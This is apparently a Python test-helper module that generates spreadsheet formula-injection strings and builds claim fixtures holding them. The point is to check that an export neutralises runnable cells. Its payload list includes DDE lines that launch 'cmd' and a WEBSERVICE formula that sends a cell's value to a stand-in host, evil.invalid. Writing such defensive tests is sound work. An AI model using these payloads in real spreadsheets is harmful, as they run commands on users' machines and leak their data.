"""Texts that a spreadsheet would run, or might, and claims that say them."""

from __future__ import annotations

from random import Random

from schemas.fields import Printed, Text
from tests import samples

STARTS = (*"=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", *"|%", "\x00")
"""First characters that run: those that OWASP's page on CSV injection names, those that begin what
older spreadsheets hand to another program, and the one that LibreOffice drops."""
_BEFORE = (
    *("", "", "", " ", "  ", "'", '"', '""', ",", ";", "\u00a0", "\ufeff", "\u200b", "\u3000"),
    *("\u2028", "\u00ad", "\u202e", "\u200d", "\u2060", "\x00", "\x0b", "\x0c", "\x85", "\x1a"),
)
_PAYLOADS = (
    *("1+1", "1", "SUM(1,2)", "SUM(1;2)", 'HYPERLINK("https://evil.invalid","click")', "A1", "-1"),
    *("cmd|' /C calc'!A0", "cmd|'/C calc'!'A1'", 'WEBSERVICE("https://evil.invalid/?"&A1)', "=1"),
    *('DDE("cmd";"/C calc";"a")', 'IMPORTXML("https://evil.invalid","//a")', "@SUM(1)", ""),
    *("2+5+cmd|' /C calc'!A0", "(1+1)", "{1+1}", "PI()", "NOW()", '"a"&"b"', "1\n=1+1", "1\t=1+1"),
)


def hostile_cells(rng: Random, count: int) -> list[str]:
    """So many texts: a start that runs or any other character, maybe with something before it."""
    return [_cell(rng) for _ in range(count)]


def _cell(rng: Random) -> str:
    start = rng.choice(STARTS) if rng.random() < 0.7 else _anything(rng)
    return rng.choice(_BEFORE) + start + rng.choice(_PAYLOADS)


def _anything(rng: Random) -> str:
    """A character of the basic plane that is no surrogate, and mostly a sign that runs after it."""
    code = rng.choice((rng.randrange(0x80), rng.randrange(0xD800), rng.randrange(0xE000, 0x10000)))
    return chr(code) + rng.choice(("=", "=", "+", ""))


def rows(cells: list[str]) -> list[dict[str, str | int | None]]:
    """Rows of a count whose keys and names are these cells, four a row."""
    names = ("key", "name", "key2", "name2")
    blank = dict.fromkeys(names)
    return [
        {**blank, **dict(zip(names, cells[first : first + 4], strict=False)), "count": 1}
        for first in range(0, len(cells), 4)
    ]


def claims_saying(cells: list[str]) -> samples.Data:
    """Fixtures whose claims say these texts wherever a claim can, four a claim; what a text may not
    hold is written as the sign that runs."""
    data = samples.sample()
    last = len(data["changes"])
    for number in range(len(cells) // 4):
        quoted, *others = cells[4 * number : 4 * number + 4]
        statement, details, hedge = (f"{Text.refused.sub('=', text)}." for text in others)
        quoted = f"{Printed.refused.sub('=', quoted)}."
        identifier = f"clm_1{number:07d}"
        goal = {"horizon": None, "specificity": "directional", "details": details}
        data["claims"].append(
            samples.claim(
                identifier,
                samples.FIRST,
                statement=statement,
                goal=goal,
                hedges=[hedge],
                quotes=[samples.quote(quoted, "ministry", samples.FIRST, 40)],
                recorded_at="2023-03-01",
            )
        )
        data["changes"].append(samples.change(last + number + 1, identifier, "2023-03-01"))
    return data
